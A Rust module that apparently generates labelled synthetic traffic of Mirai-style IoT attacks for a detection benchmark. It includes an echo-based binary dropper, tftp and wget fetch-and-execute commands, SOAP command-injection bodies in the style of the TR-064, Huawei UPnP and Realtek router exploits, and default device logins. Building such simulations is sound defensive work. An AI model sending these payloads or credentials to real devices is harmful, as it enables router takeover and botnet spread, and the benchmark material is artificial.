//! Families beside Mirai's main line: other loaders, other exploits, other ways to command and to flood.

use super::Scene;
use crate::{
    traffic::{self, Host, SYN, TelnetGuess},
    world::{self, HOUR, MINUTE, SECOND, World},
};

pub(super) const SCENES: &[Scene] = &[
    Scene {
        name: "loader-echo",
        about: "a loader writes its program byte by byte with echo",
        play: loader_echo,
    },
    Scene { name: "loader-tftp", about: "a loader has its program fetched by TFTP", play: loader_tftp },
    Scene {
        name: "exploit-soap",
        about: "commands in SOAP requests to routers (TR-064, Huawei, Realtek), and the program they fetch",
        play: exploit_soap,
    },
    Scene {
        name: "udp-control",
        about: "a bot keeps alive with its controller over UDP, and scans",
        play: udp_control,
    },
    Scene {
        name: "worm-scan",
        about: "a worm looks for several services at once, here and there",
        play: worm_scan,
    },
    Scene {
        name: "flood-carpet-out",
        about: "one of our devices floods a whole network outside, a little on each address",
        play: carpet,
    },
    Scene {
        name: "flood-forged-out",
        about: "one of our devices floods a stranger under forged addresses",
        play: forged_out,
    },
    Scene {
        name: "flood-connect-in",
        about: "one stranger opens thousands of connections to a host of ours and leaves them",
        play: connect_in,
    },
];

fn street(world: &mut World, count: usize, length: i64) -> Vec<Host> {
    let others = world.devices(count);
    let (from, until) = (world.start, world.start + length);
    for other in &others {
        world.everyday(other, from, until);
    }
    world.truth.innocent.extend(others.iter().map(|host| host.ip));
    others
}

fn loader_echo(world: &mut World) {
    let device = world.device();
    street(world, 4, 20 * MINUTE);
    let loader = world.outside();
    let at = world.start + world.secs(100.0, 300.0);
    world.truth.attack_at(at);
    let port = *world.doors.pick(&[23, 2323, 9_000]);
    let (mut talk, mut own) = world.talk(at, loader, device, port);
    let mut commands: Vec<(String, &str)> = ["enable", "system", "shell", "sh", "/bin/busybox ECCHI"]
        .iter()
        .map(|command| ((*command).to_owned(), "ECCHI: applet not found"))
        .collect();
    for part in 0..20 {
        let start =
            if part == 0 { "\\x7f\\x45\\x4c\\x46\\x01\\x01\\x01\\x61".to_owned() } else { String::new() };
        let bytes: String = own.bytes(40).iter().map(|byte| format!("\\x{byte:02x}")).collect();
        let into = if part == 0 { ">" } else { ">>" };
        commands.push((
            format!("echo -ne '{start}{bytes}' {into} .drop; /bin/busybox ECCHI"),
            "ECCHI: applet not found",
        ));
    }
    commands.push((
        "/bin/busybox chmod 777 .drop; ./.drop; /bin/busybox ECCHI".to_owned(),
        "ECCHI: applet not found",
    ));
    let commands: Vec<_> = commands.iter().map(|(command, answer)| (command.as_str(), *answer)).collect();
    TelnetGuess { logins: &[("admin", "1234", false), ("root", "hi3518", true)], commands: &commands }
        .play(&mut talk, &mut own);
    talk.close();
    let ends = talk.at;
    world.truth.attack_at(ends);
    world.truth.attackers.insert(loader.ip);
    world.truth.accomplices.insert(device.ip);
    world.truth.stages = vec!["execution".into()];
    world.truth.severity = "high".into();
}

fn loader_tftp(world: &mut World) {
    let device = world.device();
    street(world, 4, 20 * MINUTE);
    let (loader, files) = (world.outside(), world.outside());
    let at = world.start + world.secs(100.0, 300.0);
    world.truth.attack_at(at);
    let command =
        format!("/bin/busybox tftp -g -l .t -r tftp.mips {}; /bin/busybox chmod 777 .t; ./.t", files.ip);
    let (mut talk, mut own) = world.talk(at, loader, device, 23);
    TelnetGuess { logins: &[("root", "7ujMko0admin", true)], commands: &[("sh", ""), (&command, "")] }
        .play(&mut talk, &mut own);
    talk.close();
    let mut at = talk.at;
    let (from, to) = (world.doors.ephemeral(), world.doors.ephemeral());
    world.tape.udp(at, &device, &files, (from, 69), b"\0\x01tftp.mips\0octet\0");
    for block in 1..=40_u16 {
        let [high, low] = block.to_be_bytes();
        let mut data = vec![0, 3, high, low];
        if block == 1 {
            data.extend_from_slice(&[0x7f, b'E', b'L', b'F', 1, 2, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 8]);
        }
        let length = 516 - data.len();
        data.extend(world.rng.bytes(length));
        at += 40_000;
        world.tape.ask(at, (&files, &device), (to, from), &data, &[0, 4, high, low], 1_000);
    }
    world.truth.attack_at(at);
    world.truth.attackers.insert(loader.ip);
    world.truth.accomplices.extend([files.ip, device.ip]);
    world.truth.stages = vec!["execution".into()];
    world.truth.severity = "high".into();
}

fn exploit_soap(world: &mut World) {
    let device = world.device();
    street(world, 4, 20 * MINUTE);
    let (attacker, files) = (world.outside(), world.outside());
    let at = world.start + world.secs(100.0, 300.0);
    world.truth.attack_at(at);
    let fetch = format!("wget http://{}/b.mips -O /tmp/b; chmod 777 /tmp/b; /tmp/b", files.ip);
    let (path, body, port) = match world.rng.below(3) {
        0 => (
            "/UD/act?1",
            format!(
                "<?xml version=\"1.0\"?><SOAP-ENV:Envelope><SOAP-ENV:Body><u:SetNTPServers xmlns:u=\"urn:dslforum-org:service:Time:1\"><NewNTPServer1>`cd /tmp; {fetch}`</NewNTPServer1></u:SetNTPServers></SOAP-ENV:Body></SOAP-ENV:Envelope>"
            ),
            7_547,
        ),
        1 => (
            "/ctrlt/DeviceUpgrade_1",
            format!(
                "<?xml version=\"1.0\" ?><s:Envelope><s:Body><u:Upgrade xmlns:u=\"urn:schemas-upnp-org:service:WANPPPConnection:1\"><NewStatusURL>$(/bin/busybox {fetch})</NewStatusURL><NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade></s:Body></s:Envelope>"
            ),
            37_215,
        ),
        _ => (
            "/picsdesc.xml",
            format!(
                "<?xml version=\"1.0\" ?><s:Envelope><s:Body><u:AddPortMapping xmlns:u=\"urn:schemas-upnp-org:service:WANIPConnection:1\"><NewInternalClient>`cd /var; {fetch}`</NewInternalClient></u:AddPortMapping></s:Body></s:Envelope>"
            ),
            52_869,
        ),
    };
    let (mut talk, _) = world.talk(at, attacker, device, port);
    let request = format!(
        "POST {path} HTTP/1.1\r\nHost: {}:{port}\r\nContent-Type: text/xml\r\nSOAPAction: urn:act\r\nContent-Length: {}\r\n\r\n{body}",
        device.ip,
        body.len()
    );
    talk.open()
        .up(request.as_bytes())
        .down(b"HTTP/1.1 500 Internal Server Error\r\nContent-Length: 0\r\n\r\n")
        .close();
    let then = talk.at + SECOND;
    let (mut talk, mut own) = world.talk(then, device, files, 80);
    let mut program = vec![0x7f, b'E', b'L', b'F', 1, 2, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 8];
    program.extend(own.bytes(40_000));
    talk.open().up(format!(
        "GET /b.mips HTTP/1.1\r\nHost: {}\r\nUser-Agent: Wget\r\nConnection: close\r\n\r\n",
        files.ip
    )
    .as_bytes());
    talk.down(&[b"HTTP/1.1 200 OK\r\nContent-Length: 40020\r\n\r\n".as_slice(), &program].concat()).close();
    let ends = talk.at;
    world.truth.attack_at(ends);
    world.truth.attackers.insert(attacker.ip);
    world.truth.infected.insert(device.ip);
    world.truth.accomplices.insert(files.ip);
    world.truth.stages = vec!["execution|initial-access".into()];
    world.truth.severity = "high".into();
}

fn udp_control(world: &mut World) {
    let bot = world.device();
    street(world, 4, 2 * HOUR);
    let controller = world.outside();
    let (from, port) = (world.doors.ephemeral(), world.doors.port(1_024, 60_000));
    let every = world.secs(20.0, 60.0);
    let mut at = world.start + world.secs(30.0, 120.0);
    world.truth.attack_at(at);
    let (up, down) = (world.rng.bytes(12), world.rng.bytes(8));
    while at < world.start + 2 * HOUR {
        world.tape.ask(at, (&bot, &controller), (from, port), &up, &down, 60_000);
        at += (every as f64 * world.rng.around(0.02)) as i64;
    }
    world.truth.attack_at(at);
    let mut at = world.start + HOUR;
    for _ in 0..3_000 {
        let stranger = Host { ip: world::public(&mut world.places).into(), ..world.gateway };
        let ports = (world.doors.ephemeral(), 5_555);
        let seq = world.rng.bits() as u32;
        world.tape.tcp(at, &bot, &stranger, ports, (seq, 0), SYN);
        at += world.secs(0.005, 0.05);
    }
    world.truth.infected.insert(bot.ip);
    world.truth.controllers.insert(controller.ip);
    world.truth.stages = vec!["reconnaissance|discovery".into(), "command-and-control".into()];
}

fn worm_scan(world: &mut World) {
    let bot = world.device();
    let others = street(world, 6, 20 * MINUTE);
    let mut at = world.start + world.secs(30.0, 120.0);
    world.truth.attack_at(at);
    let ports = [80, 8_080, 5_555, 7_547, 37_215, 52_869, 23, 8_443, 5_358];
    for _ in 0..4_000 {
        let port = *world.doors.pick(&ports);
        let aim = if world.rng.chance(0.01) {
            *world.rng.pick(&others)
        } else {
            Host { ip: world::public(&mut world.places).into(), ..world.gateway }
        };
        let (mut talk, mut own) = world.talk(at, bot, aim, port);
        match own.below(20) {
            0 => {
                talk.open()
                    .up(b"GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: Hello, World\r\n\r\n")
                    .down(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n")
                    .close();
            }
            1 => {
                talk.refused();
            }
            _ => {
                talk.unanswered(1);
            }
        }
        at += world.secs(0.01, 0.2);
    }
    world.truth.attack_at(at);
    world.truth.infected.insert(bot.ip);
    world.truth.stages = vec!["reconnaissance|discovery".into()];
}

fn carpet(world: &mut World) {
    let bot = world.device();
    street(world, 4, 10 * MINUTE);
    // Where no hardware address is seen, what it does all day is all that shows whose packets these are.
    let (from, until) = (world.start, world.start + 10 * MINUTE);
    world.everyday(&bot, from, until);
    let base = world.outside();
    let mut at = world.start + world.secs(60.0, 200.0);
    world.truth.attack_at(at);
    let [a, b, c, _] = base.v4().octets();
    for number in 0..40_000_u32 {
        let aim = Host { ip: [a, b, c, (number % 254 + 1) as u8].into(), ..base };
        let ports = (world.doors.port(1_024, 65_000), world.doors.port(1, 65_000));
        let payload = world.rng.bytes(512);
        world.tape.udp(at, &bot, &aim, ports, &payload);
        at += world.secs(0.0, 0.001);
    }
    world.truth.attack_at(at);
    world.truth.infected.insert(bot.ip);
    world.truth.stages = vec!["impact".into()];
    world.truth.severity = "high".into();
}

fn forged_out(world: &mut World) {
    let bot = world.device();
    street(world, 4, 10 * MINUTE);
    let (from, until) = (world.start, world.start + 10 * MINUTE);
    world.everyday(&bot, from, until);
    let victim = world.outside();
    let mut at = world.start + world.secs(60.0, 200.0);
    world.truth.attack_at(at);
    for _ in 0..30_000 {
        let mask = Host { ip: world::public(&mut world.places).into(), ..bot };
        let ports = (world.doors.port(1_024, 65_000), 80);
        let seq = world.rng.bits() as u32;
        world.tape.tcp(at, &mask, &victim, ports, (seq, 0), SYN);
        at += world.secs(0.0002, 0.001);
    }
    world.truth.attack_at(at);
    // Its hardware address gives it away; naming it is welcome, not required.
    world.truth.accomplices.insert(bot.ip);
    world.truth.victims.insert(victim.ip);
    world.truth.stages = vec!["impact".into()];
    world.truth.severity = "high".into();
}

fn connect_in(world: &mut World) {
    let victim = world.device();
    street(world, 4, 10 * MINUTE);
    let attacker = world.outside();
    let mut at = world.start + world.secs(60.0, 200.0);
    world.truth.attack_at(at);
    for _ in 0..12_000 {
        let from = world.doors.port(1_024, 65_000);
        let mut own = traffic::Rng::new(world.rng.bits(), "connection");
        let mut talk = world.tape.talk(&mut own, at, attacker, victim, (from, 443));
        talk.open();
        at += world.secs(0.0005, 0.003);
    }
    world.truth.attack_at(at);
    world.truth.attackers.insert(attacker.ip);
    world.truth.victims.insert(victim.ip);
    world.truth.stages = vec!["impact".into()];
    world.truth.severity = "high".into();
}
